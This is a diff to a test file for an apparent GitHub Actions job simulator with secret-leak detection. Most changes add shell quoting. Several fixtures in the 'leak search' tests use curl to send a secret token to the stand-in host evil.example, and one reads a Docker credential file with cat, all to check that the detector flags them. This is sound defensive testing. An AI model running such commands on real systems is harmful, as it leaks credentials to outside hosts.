@@ -3,6 +3,7 @@ import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { setTimeout as sleep } from 'node:timers/promises'
 import { afterEach, describe, expect, it } from '@jest/globals'
+import { PLAIN_STORAGE } from '../__tests__/support/engines.ts'
 import { needs } from '../__tests__/support/needs.ts'
 import { dataResidency, enterprise, githubCom } from './github/servers.ts'
 import {
@@ -611,20 +612,20 @@ jobs:
     mkdirSync(home)
     const [first, second] = await Promise.all([simulator.job({ home }), simulator.job({ home })])
     const steps = await Promise.all(
-      [first, second].map((job, i) => job.run(`echo ${i} >>$HOME/both; echo $RUNNER_TEMP`))
+      [first, second].map((job, i) => job.run(`echo ${i} >>"$HOME/both"; echo "$RUNNER_TEMP"`))
     )
     expect(new Set(steps.map(({ stdout }) => stdout)).size).toBe(2)
     await ask(first, 'GET', 'https://ghcr.io/v2/')
-    expect((await second.run('wc -l <$HOME/both')).requests).toEqual([])
-    expect((await first.run('wc -l <$HOME/both')).requests).toHaveLength(2)
+    expect((await second.run('wc -l <"$HOME/both"')).requests).toEqual([])
+    expect((await first.run('wc -l <"$HOME/both"')).requests).toHaveLength(2)
   })
 
   it('empties RUNNER_TEMP when the job ends', async () => {
     const { job } = await simulate()
-    await job.run('echo something >$RUNNER_TEMP/kept')
+    await job.run('echo something >"$RUNNER_TEMP/kept"')
     await job.end()
     const { job: after } = await simulate({}, { env: { OLD: job.folder.runnerTemp } })
-    expect((await after.run('ls $OLD | wc -l')).stdout.trim()).toBe('0')
+    expect((await after.run('ls "$OLD" | wc -l')).stdout.trim()).toBe('0')
   })
 })
 
@@ -692,7 +693,7 @@ describe('the leak search', () => {
       )
       // The script and curl's arguments are no part of what is searched: curl is not recorded.
       const send = (what: string) =>
-        job.run(`curl -s --cacert $SSL_CERT_FILE ${what}`).catch((error: Error) => error.message)
+        job.run(`curl -s --cacert "$SSL_CERT_FILE" ${what}`).catch((error: Error) => error.message)
       const secret = `\${{ secrets.PAT }}`
       expect(await send(`-u x:${secret} https://evil.example/`)).toMatch(/mine \(base64\) in a GET to evil.example/)
       expect(await send(`-H 'X-Own: ${secret}' --proxy-header 'X-Own: ${secret}' https://evil.example/`)).toMatch(
@@ -717,7 +718,7 @@ describe('the leak search', () => {
       { tokens: [foreign], servers: [githubCom, enterprise('ghe.example')] },
       { tools: ['curl'], secrets: { PAT: foreign } }
     )
-    const command = `curl -s --cacert $SSL_CERT_FILE -u 'x:\${{ secrets.PAT }}' 'https://ghcr.io/token?service=ghcr.io'`
+    const command = `curl -s --cacert "$SSL_CERT_FILE" -u 'x:\${{ secrets.PAT }}' 'https://ghcr.io/token?service=ghcr.io'`
     await expect(job.run(command)).rejects.toThrow('in a GET to ghcr.io')
   })
 
@@ -735,7 +736,7 @@ describe('the leak search', () => {
     const files = { '.docker/config.json': { text: planted, mode: 0o644 } }
     const { job } = await simulate({}, { files, planted: { friend: planted } })
     await job.run('true')
-    await expect(job.run('cat $HOME/.docker/config.json')).rejects.toThrow('friend (plain) in stdout')
+    await expect(job.run('cat "$HOME/.docker/config.json"')).rejects.toThrow('friend (plain) in stdout')
   })
 })
 
@@ -743,7 +744,7 @@ describe('engines', () => {
   const token = githubToken()
   const dead = classicPat({ name: 'dead', live: false })
   const login = (engine: string) =>
-    `printf %s "$PAT" | ${engine} login ghcr.io ${engine === 'podman' ? '--authfile $RUNNER_TEMP/auth.json' : ''} -u x --password-stdin`
+    `printf %s "$PAT" | ${engine} login ghcr.io ${engine === 'podman' ? '--authfile "$RUNNER_TEMP/auth.json"' : ''} -u x --password-stdin`
 
   for (const engine of ['docker', 'podman']) {
     needs(engine).it(`${engine} itself logs in, is refused with a dead token, and is recorded`, async () => {
@@ -777,7 +778,7 @@ describe('engines', () => {
 
   it('leads straight to an engine where recording is off', async () => {
     const { job } = await simulate({}, { engines: ['cat'], record: false })
-    expect(await job.run('cat </dev/null; readlink $(type -P cat)')).toMatchObject({
+    expect(await job.run('cat </dev/null; readlink "$(type -P cat)"')).toMatchObject({
       stdout: `${onMachine('cat')}\n`,
       children: []
     })
@@ -823,12 +824,11 @@ describe('engines', () => {
       { engines: ['buildah', 'skopeo'], leftovers: /auth\.json/, env: { BUILDAH_ISOLATION: 'chroot' } }
     )
     const step = await job.run(
-      `printf %s "$PAT" | buildah login -u x --authfile $RUNNER_TEMP/auth.json --password-stdin ghcr.io
+      `printf %s "$PAT" | buildah login -u x --authfile "$RUNNER_TEMP/auth.json" --password-stdin ghcr.io
        printf 'FROM scratch\\nCOPY hello /\\n' >Containerfile; echo hi >hello
-       engine="buildah --root $RUNNER_TEMP/store --runroot $RUNNER_TEMP/run --storage-driver vfs"
-       $engine build -q -t ghcr.io/acme/app:v1 . >/dev/null
-       $engine push -q --authfile $RUNNER_TEMP/auth.json ghcr.io/acme/app:v1
-       skopeo list-tags --authfile $RUNNER_TEMP/auth.json docker://ghcr.io/acme/app`,
+       buildah ${PLAIN_STORAGE} build -q -t ghcr.io/acme/app:v1 . >/dev/null
+       buildah ${PLAIN_STORAGE} push -q --authfile "$RUNNER_TEMP/auth.json" ghcr.io/acme/app:v1
+       skopeo list-tags --authfile "$RUNNER_TEMP/auth.json" docker://ghcr.io/acme/app`,
       { env: { PAT: token.value } }
     )
     expect(step.stderr).toBe('')
